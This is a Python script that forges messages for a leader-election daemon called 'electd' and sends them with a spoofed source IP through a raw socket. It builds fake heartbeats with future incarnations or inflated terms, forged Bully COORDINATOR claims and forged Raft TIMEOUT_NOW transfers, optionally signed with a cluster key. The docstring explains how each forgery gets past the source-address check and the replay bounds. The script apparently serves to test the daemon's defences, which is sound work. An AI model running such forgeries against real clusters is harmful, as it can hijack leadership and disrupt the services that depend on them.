#!/usr/bin/env python3
"""Forge one electd datagram from docs/wire.md alone and send it with a spoofed source.

  spoof.py KIND --src IP --dst IP --port UDP --cluster NAME --sender ID --receiver ID
           --algorithm NAME --term N [--key FILE]

Run as root in the attacker's network namespace (on the cluster's bridge): a raw
IPv4 socket (IP_HDRINCL) puts the claimed sender's roster address in the IP header, so
`security.check_source` does not stop it. KIND:

  future-heartbeat   a heartbeat of the real leader (sender = leader, its current term)
                     with an incarnation 9 s ahead of now: inside the 10 s future bound
                     (docs/security.md), so a receiver takes it for a restart of the
                     leader; counter 1 (a fresh replay window)
  far-term-heartbeat the same, with the term 1 000 000 ahead
  coordinator        (Bully family) a COORDINATOR "from" --sender (any member, not
                     the leader) naming itself leader with the epoch --term + 1; a
                     reliable body (seq 1 of the new incarnation)
  timeout-now        (Raft) a TIMEOUT_NOW "from" the leader --sender of term --term:
                     the receiver would campaign at once (a forged transfer)

Without --key the datagram is insecure (no tag, key_id 0: the insecure variant); with
--key (a cluster key file) it is signed as an insider would (docs/wire.md §4). The
encoding is written here from the documentation (§2, §3), not taken from electd.
"""
import argparse
import hashlib
import hmac
import socket
import struct
import time

KINDS = ["future-heartbeat", "far-term-heartbeat", "coordinator", "timeout-now"]
ALGORITHMS = {"bully": 1, "improved-bully": 2, "ring": 3, "lcr": 4, "hs": 5, "raft": 6}


def varint(n):
    out = bytearray()
    while True:
        b = n & 0x7F
        n >>= 7
        if n:
            out.append(b | 0x80)
        else:
            out.append(b)
            return bytes(out)


def field_varint(num, value):
    return b"" if value == 0 else varint(num << 3) + varint(value)


def field_bytes(num, data, always=False):
    if not data and not always:
        return b""
    return varint(num << 3 | 2) + varint(len(data)) + data


def envelope(cluster, sender, incarnation, algorithm, body_num, body, counter, receiver,
             key=None, seq=0):
    """Canonical encoding (every field in ascending field number, defaults omitted:
    wire.md §3, so a body numbered 29-31 comes after `receiver`), signed if key given."""
    key_id = 0
    if key is not None:
        key_id = int.from_bytes(hashlib.sha256(key).digest()[:4], "big") or 1

    def encode(tag):
        fields = [(1, field_varint(1, 1)), (2, field_bytes(2, cluster.encode())),
                  (3, field_varint(3, sender)), (4, field_varint(4, incarnation)),
                  (5, field_varint(5, seq)), (7, field_varint(7, algorithm)),
                  (8, field_bytes(8, tag)), (9, field_varint(9, key_id)),
                  (body_num, field_bytes(body_num, body, always=True)),
                  (27, field_varint(27, counter)), (28, field_varint(28, receiver))]
        return b"".join(b for _, b in sorted(fields, key=lambda f: f[0]))

    if key is None:
        return encode(b"")
    tag = hmac.new(key, encode(b""), hashlib.sha256).digest()
    return encode(tag)


def read_key(path):
    with open(path) as f:
        for line in f:
            line = line.strip()
            if line and not line.startswith("#"):
                return bytes.fromhex(line)
    raise SystemExit(f"no key in {path}")


def checksum(data):
    if len(data) % 2:
        data += b"\0"
    s = sum(struct.unpack(f"!{len(data) // 2}H", data))
    s = (s >> 16) + (s & 0xFFFF)
    s += s >> 16
    return ~s & 0xFFFF


def send_spoofed(src, dst, port, payload):
    udp = struct.pack("!HHHH", port, port, 8 + len(payload), 0) + payload
    pseudo = socket.inet_aton(src) + socket.inet_aton(dst) + struct.pack("!BBH", 0, 17, len(udp))
    c = checksum(pseudo + udp) or 0xFFFF
    udp = udp[:6] + struct.pack("!H", c) + udp[8:]
    ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(udp), 0, 0x4000, 64, 17, 0,
                     socket.inet_aton(src), socket.inet_aton(dst))
    s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    s.setsockopt(socket.IPPROTO_IP, socket.IP_HDRINCL, 1)
    s.sendto(ip + udp, (dst, 0))
    s.close()


def main():
    p = argparse.ArgumentParser()
    p.add_argument("kind", choices=KINDS)
    for a in ("--src", "--dst", "--cluster", "--algorithm"):
        p.add_argument(a, required=True)
    for a in ("--port", "--sender", "--receiver", "--term"):
        p.add_argument(a, required=True, type=int)
    p.add_argument("--key")
    args = p.parse_args()
    key = read_key(args.key) if args.key else None
    incarnation = int(time.time() * 1e6) + 9_000_000
    term = args.term + (1_000_000 if args.kind == "far-term-heartbeat" else 0)
    seq, num = 0, 23
    body = field_varint(1, term) + field_varint(2, args.sender)  # Heartbeat {term, leader}
    if args.kind == "coordinator":  # Coordinator {leader, epoch, tag {initiator, seq}}
        term = args.term + 1
        tag = field_varint(1, args.sender) + field_varint(2, (incarnation << 12) | 1)
        body = (field_varint(1, args.sender) + field_varint(2, term)
                + field_bytes(3, tag, always=True))
        seq, num = 1, 12
    elif args.kind == "timeout-now":  # TimeoutNow {term}
        body = field_varint(1, term)
        seq, num = 1, 29
    dgram = envelope(args.cluster, args.sender, incarnation, ALGORITHMS[args.algorithm], num,
                     body, 1, args.receiver, key, seq=seq)
    send_spoofed(args.src, args.dst, args.port, dgram)
    print(f"sent {args.kind} {args.src}->{args.dst} {args.algorithm} term {term} "
          f"incarnation {incarnation} ({len(dgram)} bytes, {'signed' if key else 'insecure'})")


if __name__ == "__main__":
    main()
